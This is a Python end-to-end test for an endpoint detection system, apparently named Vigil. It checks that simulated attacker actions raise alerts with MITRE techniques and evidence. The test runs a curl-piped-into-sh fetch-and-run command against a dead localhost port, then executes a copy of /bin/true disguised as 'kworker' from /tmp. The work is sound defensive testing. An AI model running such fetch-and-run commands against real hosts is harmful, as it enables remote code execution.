"""What an attacker runs on an enrolled endpoint becomes an alert, with technique and evidence."""

from __future__ import annotations

import hashlib
import shutil
import subprocess
import uuid
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.agent_support import AgentProcess, wait_for
from tests.support import VigilServer

pytestmark = pytest.mark.root


def _alerts(server: VigilServer, token: str) -> list[dict[str, Any]]:
    with server.client(token) as c:
        return list(c.get("/api/alerts").json()["value"])


def test_commands_run_on_the_endpoint_raise_alerts(sqlite_server: VigilServer, agent: AgentProcess) -> None:
    server = sqlite_server
    token = server.admin_token()

    def ready() -> bool:
        with server.client(token) as c:
            m = c.get(f"/api/machines/{agent.device_id}").json()
        return str(m.get("sensorHealth", {}).get("process", "")).split(":")[0] in ("active", "degraded")

    wait_for(ready, 30, f"the agent's process sensor (log: {agent.log})")
    marker = uuid.uuid4().hex[:10]
    # A download piped into a shell; nothing listens on port 9, so nothing is fetched or run.
    pipe = f"curl -fsS http://127.0.0.1:9/stage2-{marker}.sh | sh"
    subprocess.run(["sh", "-c", pipe], check=False, capture_output=True)
    # A binary dropped in /tmp and executed from there.
    # It stays on disk until the alert is in: the agent hashes executables after the fact.
    drop = Path(f"/tmp/vigil-e2e-{marker}")
    drop.mkdir()
    try:
        payload = drop / "kworker"
        shutil.copy("/bin/true", payload)
        subprocess.run([str(payload), marker], check=True)
        digest = hashlib.sha256(payload.read_bytes()).hexdigest()

        def both() -> dict[str, dict[str, Any]] | None:
            found = {a["title"]: a for a in _alerts(server, token) if marker in str(a["evidence"])}
            return found if len(found) >= 2 else None

        alerts = wait_for(both, 60, f"two alerts carrying {marker} (agent log: {agent.log})")
    finally:
        shutil.rmtree(drop)
    piped = alerts["Download Piped Into a Shell"]
    assert piped["machineId"] == agent.device_id
    assert "T1059.004" in piped["mitreTechniques"] and piped["category"] == "Execution"
    assert any(e.get("ProcessCommandLine") == f"sh -c '{pipe}'" for e in piped["evidence"])

    temp = alerts["Execution From a World-Writable Temporary Folder"]
    ev = next(e for e in temp["evidence"] if e.get("FolderPath") == str(payload))
    assert ev["SHA256"] == digest and ev["ProcessCommandLine"] == f"{payload} {marker}"
    # Both landed in one incident: same device, minutes apart.
    assert piped["incidentId"] is not None and piped["incidentId"] == temp["incidentId"]
